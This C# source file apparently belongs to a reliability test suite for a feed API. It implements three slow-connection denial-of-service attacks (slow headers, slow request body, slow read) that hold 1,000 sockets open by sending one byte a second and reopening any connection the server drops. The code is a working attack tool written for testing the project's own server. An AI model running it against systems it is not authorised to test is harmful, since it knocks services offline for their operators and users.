using System.Globalization;
using System.Net.Sockets;
using System.Text;

namespace FeedApi.Reliability.Attack;

/// <summary>Attacks by connections that take their time: fields and bodies that come a byte at a time, answers that nobody reads.</summary>
internal static class SlowConnections
{
    private const int Connections = 1_000;
    private const int AnswersPerConnection = 8;
    private static readonly TimeSpan ByteEvery = TimeSpan.FromSeconds(1);
    private static readonly TimeSpan BetweenConnections = TimeSpan.FromMilliseconds(2);

    /// <summary>An attack of each kind.</summary>
    public static IReadOnlyList<Attack> Attacks { get; } =
    [
        new("slow-headers", (target, end) => RunAsync(target.Http1, "GET /feed.rss HTTP/1.1\r\nHost: {0}\r\nX: ", end)),
        new("slow-body", (target, end) => RunAsync(target.Http1, "POST /hub HTTP/1.1\r\nHost: {0}\r\nContent-Length: 8192\r\n\r\n", end)),
        new("slow-read", (target, end) => RunAsync(
            target.Http1,
            string.Concat(Enumerable.Repeat("GET /feed.rss?limit=100 HTTP/1.1\r\nHost: {0}\r\n\r\n", AnswersPerConnection)),
            end)),
    ];

    private static async Task<string> RunAsync(Uri server, string begin, CancellationToken end)
    {
        var request = Encoding.ASCII.GetBytes(begin.Replace("{0}", server.Authority, StringComparison.Ordinal));
        var (opened, cut) = (0, 0);
        await Task.WhenAll(Enumerable.Range(0, Connections).Select(async number =>
        {
            await Task.Delay(BetweenConnections * number, end).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
            while (!end.IsCancellationRequested)
            {
                Interlocked.Increment(ref opened);
                if (await HoldAsync(server, request, end)) Interlocked.Increment(ref cut);
            }
        }));
        return string.Create(CultureInfo.InvariantCulture, $"{opened} connections, {cut} ended by the server");
    }

    // A byte a second, and nothing is read. True when the server ends the connection; then comes another.
    private static async Task<bool> HoldAsync(Uri server, byte[] request, CancellationToken end)
    {
        using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { ReceiveBufferSize = 1_024 };
        try
        {
            await socket.ConnectAsync(server.Host, server.Port, end);
            await socket.SendAsync(request, end);
            while (true)
            {
                await Task.Delay(ByteEvery, end);
                await socket.SendAsync("a"u8.ToArray(), end);
            }
        }
        catch (SocketException)
        {
            await Task.Delay(ByteEvery, end).ConfigureAwait(ConfigureAwaitOptions.SuppressThrowing);
            return true;
        }
        catch (OperationCanceledException)
        {
            return false;
        }
    }
}
